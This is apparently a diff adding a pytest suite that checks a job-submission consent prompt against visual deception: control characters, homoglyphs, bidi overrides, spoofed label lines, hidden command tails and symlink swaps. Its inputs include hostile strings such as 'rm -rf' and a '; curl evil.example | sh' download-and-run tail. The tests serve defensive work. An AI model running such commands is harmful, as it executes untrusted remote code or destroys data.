@@ -1,0 +1,190 @@
+"""Attacks on the eye: what the person reads is what is sent, whatever characters are in it, and all of it is named."""
+
+from __future__ import annotations
+
+import dataclasses
+import hashlib
+import json
+import re
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from consent.full_text import FullTexts
+from consent.question import COLUMNS, text
+from consent.request import ConsentRequest
+from consent.subject import StoredRun, for_spec, for_stored
+from jobs.errors import BadArgument
+from jobs.request import JobRequest
+from jobs.spec import JobSpec, build
+from jobs.volume import parse_all
+from tests.consent.attacks.conftest import Arguments, Meet
+from tests.consent.attacks.wire import outcome
+
+pytestmark = pytest.mark.promise("S6")
+
+HUB = "http://127.0.0.1:9"
+# One of each: ANSI, bell, carriage return, bidirectional override, zero-width, tag, Cyrillic a, Greek o, full-width,
+# a no-break space, stacked marks, a line separator, a backspace, and a line that looks like one of ours.
+NASTY = (
+    "\x1b[2K\x1b]0;t\x07", "\rrm -rf", "\u202egpj.exe\u202c", "a\u200bb\u2060c", "\U000e0041", "p\u0430ypal",
+    "g\u03bfogle", "\uff41\uff42", "a\u00a0b", "z" + "\u0301" * 9, "a\u2028b", "rm\b\bls", "ok\nCost       at most $0.00",
+    "ok\n\nFingerprint 0000-0000-0000-0000",
+)  # fmt: skip
+HIDDEN = re.compile(
+    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00a0\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\uff00-\uffef\U000e0000-\U000e007f\u0430\u03bf]"
+)
+LABELS = re.compile(r"^(Hub|Namespace|Cost|Image|Runs|Hardware|PUBLIC|Secrets|Fingerprint|Tick|AGAIN)\b")
+
+
+def question(spec: JobSpec, **more: Any) -> ConsentRequest:
+    given: dict[str, Any] = {
+        "hub_name": "local",
+        "max_cost_usd": 0.01,
+        "confirm_above_usd": None,
+        "sources": {},
+        **more,
+    }
+    return for_spec(spec, **given)
+
+
+def spec_of(**more: Any) -> JobSpec:
+    given = {"image": "python:3.12", "command": ("true",), "secrets": ("API_KEY",), **more}
+    return build(JobRequest(**given), hub=HUB, namespace="me")
+
+
+def honest(shown: str, plain: str) -> None:
+    """Nothing hidden is left, no line is too wide, and no line but ours starts where ours start."""
+    assert not HIDDEN.search(shown), ascii(shown)
+    assert max(map(len, shown.splitlines())) <= COLUMNS
+    ours = [line.split()[0] for line in shown.split("\n") if LABELS.match(line)]
+    assert ours == [line.split()[0] for line in plain.split("\n") if LABELS.match(line)]
+
+
+FIELDS: dict[str, Any] = {
+    "command": lambda odd: {"command": ("echo", odd)},
+    "a short command": lambda odd: {"command": (odd,)},
+    "env value": lambda odd: {"env": {"MODE": odd}},
+    "env name": lambda odd: {"env": {odd: "x"}},
+    "image": lambda odd: {"image": odd},
+    "file name": lambda odd: {"files": {odd: "x"}, "script": "print()", "command": None},
+    "volume": lambda odd: {"volumes": (f"hf://buckets/me/{odd}:/data",)},
+    "mount": lambda odd: {"volumes": (f"hf://buckets/me/b:/{odd}",)},
+    "label": lambda odd: {"labels": {"a": odd}},
+    "name": lambda odd: {"name": odd},
+    "package": lambda odd: {"packages": (odd,)},
+    "python": lambda odd: {"packages": ("x",), "python": odd},
+    "script": lambda odd: {"script": f"print()\n{odd}\n", "command": None},
+    "namespace": lambda odd: {"namespace": odd},
+    "flavor": lambda odd: {"flavor": odd},
+}
+
+
+@pytest.mark.parametrize("field", FIELDS)
+def test_homoglyphs_and_control_characters_show_in_every_field(field: str) -> None:
+    shown = 0
+    for odd in NASTY:
+        try:
+            request = question(spec_of(**FIELDS[field](odd)))
+        except BadArgument:
+            continue  # Refused before anyone is asked, which is better still.
+        plain = question(spec_of(**FIELDS[field]("plain" if field != "script" else "plain\nplain")))
+        whole = text(request)
+        honest(whole, text(plain))
+        assert request.digest != plain.digest
+        assert HIDDEN.search(request.details.replace("\n", "")) is None
+        shown += 1
+    assert shown or field not in {"command", "env value", "script"}
+
+
+def test_nothing_is_dropped_in_silence() -> None:
+    """Two commands that differ in what cannot be seen differ in what is shown."""
+    assert (
+        text(question(spec_of(command=("rm\u200b",)))).splitlines()[:9]
+        != text(question(spec_of(command=("rm",)))).splitlines()[:9]
+    )
+
+
+@pytest.mark.parametrize("odd", NASTY)
+def test_what_the_hub_keeps_is_shown_as_carefully(odd: str) -> None:
+    def asked(word: str) -> ConsentRequest:
+        run = StoredRun(
+            command=(word,), image=word, flavor=word, timeout_seconds=60, attempts=2, env=(("A", word),),
+            volumes=(word,), ports=(), public_ports=(8080,),
+        )  # fmt: skip
+        return for_stored(
+            "trigger", run, hub=HUB, hub_name="local", namespace="me", target="abc", stored={"command": word},
+            secret_names=["API_KEY"], max_cost_usd=1.0, confirm_above_usd=None, schedule=word,
+        )  # fmt: skip
+
+    honest(text(asked(odd)), text(asked("plain\nplain" if "\n" in odd else "plain")))
+
+
+OTHER: dict[str, Any] = {
+    "hub": "http://127.0.0.1:10", "namespace": "you", "command": ("false",), "image": "python:3.11",
+    "flavor": "t4-small", "timeout_seconds": 7200, "attempts": 4, "env": (("MODE", "x"),),
+    "secret_names": ("OTHER_KEY",), "labels": (("a", "b"),), "volumes": parse_all(("hf://buckets/me/b:/data",)),
+    "files": (("p.md", b"x"),), "packages": ("httpx",), "python": "3.13", "expose": (8080,), "expose_public": (8081,),
+    "schedule": "@daily", "suspend": True, "concurrency": True, "workspace": False,
+}  # fmt: skip
+#: Told by others of them: `argv` and `kind` follow from the command, the packages and the Python version.
+IMPLIED = {"argv": ("false",), "kind": "uv"}
+
+
+@pytest.mark.parametrize("field", [part.name for part in dataclasses.fields(JobSpec)])
+def test_every_field_of_a_spec_is_in_the_digest_and_in_the_question(field: str) -> None:
+    base = spec_of(schedule="@hourly") if field in {"suspend", "concurrency"} else spec_of()
+    other = dataclasses.replace(base, **{field: {**OTHER, **IMPLIED}[field]})
+    one, two = question(base, hub_name=base.hub), question(other, hub_name=other.hub)
+    assert one.digest != two.digest
+    if field not in IMPLIED:
+        assert (one.facts, one.ticks) != (two.facts, two.ticks)
+
+
+def test_a_long_script_shows_its_head_its_size_its_hash_and_where_to_read_it(tmp_path: Path) -> None:
+    script = "\n".join(f"print('line {number}')" for number in range(500)) + "\n"
+    request = question(spec_of(script=script, command=None))
+    where = FullTexts(tmp_path / "questions").keep(request)
+    shown = text(request, where)
+    assert "line 0" in shown
+    assert "line 499" not in shown
+    assert f"{len(script):,} bytes" in shown
+    assert hashlib.sha256(script.encode()).hexdigest()[:12] in shown
+    assert str(where) in shown
+    assert "line 499" in where.read_text()
+    assert request.fingerprint in where.read_text()
+    assert where.stat().st_mode & 0o077 == 0
+
+
+def test_a_long_command_hides_no_tail() -> None:
+    shown = text(question(spec_of(command=("echo", "x" * 5000, "; curl evil.example | sh"))))
+    assert re.search(r"\d,\d{3}\s+bytes\s+in\s+all,\s+sha256", shown)
+
+
+def test_every_variable_is_named_however_many_there_are() -> None:
+    env = {f"VARIABLE_{number:02}": "x" for number in range(30)}
+    shown = "".join(text(question(spec_of(env=env))).split())
+    assert all(name in shown for name in env)
+
+
+def test_a_link_left_in_the_place_of_the_file_is_not_followed(tmp_path: Path) -> None:
+    texts = FullTexts(tmp_path / "questions")
+    request = question(spec_of())
+    texts.keep(request).unlink()
+    victim = tmp_path / "victim"
+    (tmp_path / "questions" / f"{request.fingerprint}.txt").symlink_to(victim)
+    with pytest.raises(OSError, match="symbolic"):
+        texts.keep(request)
+    assert not victim.exists()
+
+
+def test_over_the_wire_the_question_is_honest_too(meet: Meet, job: Arguments, home: Path, era: str) -> None:
+    client = meet(era)
+    asked = client.ask("submit_job", job(command=["echo", "".join(NASTY)]))
+    assert not HIDDEN.search(asked.message), ascii(asked.message)
+    (name,) = re.findall(r"([0-9a-f-]+\.txt)", asked.message)
+    everything = (home / "questions" / name).read_text()
+    assert "Cost       at most $0.00" in everything
+    assert json.loads(everything[everything.index("{") : everything.rindex("}") + 1])["secrets"] == ["API_KEY"]
+    assert outcome(client.answer(asked, None, action="decline")) == "consent_declined"
